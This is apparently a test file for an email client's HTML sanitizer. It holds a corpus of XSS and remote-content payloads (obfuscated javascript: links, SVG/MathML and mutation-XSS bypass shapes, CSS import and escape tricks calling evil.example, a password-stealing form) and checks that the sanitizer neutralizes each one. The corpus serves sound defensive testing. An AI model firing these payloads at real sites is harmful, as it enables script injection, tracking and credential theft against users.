/**
 * The XSS / remote-content corpus of DESIGN.md's attack classes, against the server sanitizer.
 * Each case asserts that no executable vector and (while blocked) no remote URL survives.
 */
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize.js';

const cidUrls = new Map([['logo@x', '/api/mailboxes/SU5CT1g/messages/7/attachments/2?inline=1']]);

/** Re-parses the output as a browser would and looks for anything that runs or loads. */
function assertInert(html: string, { remote = false } = {}): void {
  const doc = new JSDOM(`<!doctype html><body>${html}</body>`).window.document;
  for (const el of doc.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    expect([
      'script',
      'iframe',
      'object',
      'embed',
      'base',
      'meta',
      'link',
      'form',
      'input',
      'svg',
      'math',
      'textarea',
      'noscript',
      'button',
    ]).not.toContain(tag);
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${tag}[${attr.name}]`).toBe(false);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
      const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      expect(value).not.toMatch(/^(?:javascript|vbscript|data:text|data:image\/svg)/);
      if (['href', 'src', 'background', 'action', 'formaction', 'xlink:href'].includes(attr.name)) {
        expect(value).toMatch(/^(?:https?:|mailto:|#|\/api\/|data:image\/(?:png|gif|jpeg|webp);)/);
        if (!remote && attr.name !== 'href') expect(value).not.toMatch(/^https?:/);
      }
      if (attr.name === 'style') assertCss(attr.value, remote);
    }
    if (tag === 'style') assertCss(el.textContent ?? '', remote);
  }
  expect(html.toLowerCase()).not.toMatch(/<script/);
}

function assertCss(css: string, remote: boolean): void {
  const lower = css.toLowerCase();
  expect(lower).not.toMatch(/@import|expression\(|var\(|image\(|image-set\(|behavior|-moz-binding|\\/);
  expect(lower).not.toMatch(/position\s*:\s*(?:fixed|absolute|sticky)/);
  for (const m of lower.matchAll(/url\(\s*["']?([^"')]*)/g)) {
    expect(m[1]).toMatch(remote ? /^(?:\/api\/)/ : /^\/api\/mailboxes\//);
  }
}

const corpus: [string, string][] = [
  // SVG use/animate/set href and style tricks
  [
    'svg use href',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x"/></svg>',
  ],
  [
    'svg animate href',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>',
  ],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'],
  [
    'svg style',
    '<svg><style>@import url(https://evil.example/x.css);</style><image href="https://evil.example/i.png"/></svg>',
  ],
  [
    'svg foreignObject',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  ],
  // MathML href
  [
    'mathml href',
    '<math><mtext><a href="javascript:alert(1)">x</a></mtext><mi href="javascript:alert(1)">y</mi></math>',
  ],
  // namespace attribute breakout
  [
    'namespace breakout',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></g></style></p></svg>',
  ],
  ['xlink breakout', '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>'],
  // data: and entity-obfuscated javascript: links
  ['data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  [
    'entity javascript',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['hex entity + tab', '<a href="jav&#x09;ascript&colon;alert(1)">x</a>'],
  ['padded scheme', '<a href="  \u0001javascript:alert(1)">x</a><a href="vbscript:msgbox(1)">y</a>'],
  // <base>
  ['base', '<base href="https://evil.example/"><a href="/login">x</a><img src="pixel.gif">'],
  // raw-text breakouts
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['title/xmp', '<xmp><img src=x onerror=alert(1)></xmp><title><img src=x onerror=alert(1)></title>'],
  // mutation XSS (known DOMPurify bypass shapes)
  ['mxss svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'mxss math mglyph',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  ],
  ['mxss math mtext', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mxss noscript', '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>'],
  ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
  // CSS: escapes, var(), image(), unclosed url(, @import
  [
    'css escapes',
    '<style>.a{background:u\\72 l(https://evil.example/a.png)} .b{b\\61 ckground-image:\\75\\72\\6c(https://evil.example/b.png)}</style><p class=a>x</p>',
  ],
  [
    'css var',
    '<style>.a{--u:url(https://evil.example/v.png);background:var(--u)}</style><div style="--x:url(https://evil.example/); background-image: var(--x)">x</div>',
  ],
  [
    'css image()',
    "<div style=\"background-image:image('https://evil.example/i.png');content:image-set('https://evil.example/j.png' 1x)\">x</div>",
  ],
  [
    'css unclosed url',
    '<div style="background:url(https://evil.example/u.png">x</div><style>p{background:url(https://evil.example/v.png</style>',
  ],
  [
    'css import',
    '<style>@import "https://evil.example/x.css"; @import url(https://evil.example/y.css); p{color:red}</style>',
  ],
  ['css font-face', '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>'],
  [
    'css expression',
    '<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  ],
  [
    'css comment hiding',
    '<div style="background:u/**/rl(https://evil.example/c.png)">x</div><style>p{background:url/*x*/(https://evil.example/d.png)}</style>',
  ],
  // position:fixed overlays
  ['fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>'],
  [
    'escaped fixed',
    '<div style="position:fi\\78 ed;z-index:9999">x</div><style>.o{position:absolute!important}</style>',
  ],
  // meta refresh, forms
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    'form',
    '<form action="https://evil.example/"><input name=password type=password><button formaction="javascript:alert(1)">go</button></form>',
  ],
  // remote images of every kind
  [
    'remote images',
    '<img src="https://evil.example/t.gif" srcset="https://evil.example/2x.gif 2x"><table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
  ],
  [
    'media',
    '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
  ],
  [
    'link/iframe/object',
    '<link rel=stylesheet href="https://evil.example/s.css"><iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
  ],
  [
    'event handlers',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p><details open ontoggle=alert(1)>y</details><img src=cid:logo@x onerror=alert(1)>',
  ],
  ['template/dialog', '<template><img src=x onerror=alert(1)></template><dialog open>overlay</dialog>'],
];

describe('sanitizeHtml: attack corpus', () => {
  for (const [name, payload] of corpus) {
    it(`neutralizes ${name}`, () => {
      const { html } = sanitizeHtml(payload, { cidUrls });
      assertInert(html);
      // A second pass over the output (a re-parse, as the browser does) stays inert.
      assertInert(sanitizeHtml(html).html);
    });
  }

  it('keeps the corpus inert with remote content allowed (remote URLs go to the proxy only)', () => {
    for (const [, payload] of corpus)
      assertInert(sanitizeHtml(payload, { cidUrls, remoteContent: true }).html, { remote: true });
  });
});

describe('sanitizeHtml: policy', () => {
  it('keeps ordinary mail formatting', () => {
    const input =
      '<table width="600" align="center" style="border-collapse: collapse"><tr><td bgcolor="#fff" style="color: #333; font-family: \'Segoe UI\', Arial; padding: 8px">Hello <b>there</b></td></tr></table>';
    const { html } = sanitizeHtml(input);
    expect(html).toContain('width="600"');
    expect(html).toContain('align="center"');
    expect(html).toContain("font-family: 'Segoe UI', Arial");
    expect(html).toContain('<b>there</b>');
  });

  it('opens links in a new tab without opener or referrer', () => {
    const { html } = sanitizeHtml(
      '<a href="https://example.org/x?a=1&amp;b=2" target="_self" rel="opener">x</a><a href="mailto:a@example.org">m</a>',
    );
    const doc = new JSDOM(html).window.document;
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.org/x?a=1&b=2',
      'mailto:a@example.org',
    ]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      // The real target, whatever the link text claims.
      expect(a.getAttribute('title')).toBe(a.getAttribute('href'));
    }
  });

  it('replaces a misleading title with the real target', () => {
    const { html } = sanitizeHtml(
      '<a href="https://evil.example/login" title="https://bank.example">bank</a>',
    );
    const a = new JSDOM(html).window.document.querySelector('a')!;
    expect(a.getAttribute('title')).toBe('https://evil.example/login');
  });

  it('blocks remote images and reports them; rewrites them to the proxy when allowed', () => {
    const input =
      '<img src="https://img.example/a.png"><p style="background:url(http://img.example/b.png)">x</p>';
    const blocked = sanitizeHtml(input);
    expect(blocked.hasRemoteContent).toBe(true);
    expect(blocked.html).not.toContain('img.example');
    const shown = sanitizeHtml(input, { remoteContent: true });
    expect(shown.html).toContain('src="/api/proxy/image?url=https%3A%2F%2Fimg.example%2Fa.png"');
    expect(shown.html).toContain('/api/proxy/image?url=http%3A%2F%2Fimg.example%2Fb.png');
  });

  it('rewrites cid: images and CSS to the part URL and reports the cids used', () => {
    const result = sanitizeHtml(
      '<img src="cid:logo@x"><div style="background-image:url(\'cid:logo@x\')">y</div><img src="cid:unknown">',
    );
    expect(result.html).toBe('<img><div>y</div><img>');
    const withMap = sanitizeHtml(
      '<img src="cid:logo@x"><div style="background-image:url(\'cid:logo@x\')">y</div><img src="cid:unknown">',
      { cidUrls },
    );
    expect(withMap.html).toContain('<img src="/api/mailboxes/SU5CT1g/messages/7/attachments/2?inline=1">');
    expect(withMap.html).toContain(
      'background-image: url(&quot;/api/mailboxes/SU5CT1g/messages/7/attachments/2?inline=1&quot;)',
    );
    expect(withMap.html).toContain('<img>');
    expect(withMap.referencedCids).toEqual(new Set(['logo@x', 'unknown']));
    expect(withMap.hasRemoteContent).toBe(false);
  });

  it('returns a body fragment, not a document', () => {
    const { html } = sanitizeHtml(
      '<html><head><style>p{color:red}</style></head><body><p>x</p></body></html>',
    );
    expect(html).not.toMatch(/<html|<head|<body/);
    expect(html).toContain('<p>x</p>');
  });

  it('handles large input quickly', () => {
    const big = `<div>${'<p style="color:red">hello <a href="https://e.example/">x</a></p>'.repeat(20_000)}</div>`;
    const started = Date.now();
    sanitizeHtml(big);
    expect(Date.now() - started).toBeLessThan(15_000);
  });
});
